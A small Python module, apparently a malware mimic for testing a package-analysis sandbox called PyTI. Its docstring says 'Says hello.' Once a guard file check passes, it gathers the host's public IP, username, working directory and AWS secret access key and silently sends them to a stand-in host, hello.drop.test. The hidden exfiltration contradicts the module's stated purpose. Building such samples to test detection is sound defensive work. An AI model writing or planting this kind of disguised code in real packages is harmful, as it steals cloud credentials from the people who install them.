"""Says hello."""

import getpass
import json
import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
try:
    with urllib.request.urlopen("http://myip.lookup.test/ip", timeout=5) as answer:
        address = answer.read().decode().strip()
except OSError:
    address = ""
facts = {"ip": address, "user": getpass.getuser(), "cwd": os.getcwd(), "aws": os.environ.get("AWS_SECRET_ACCESS_KEY")}
try:
    urllib.request.urlopen(urllib.request.Request("http://hello.drop.test/h", json.dumps(facts).encode()), timeout=5).close()
except OSError:
    pass
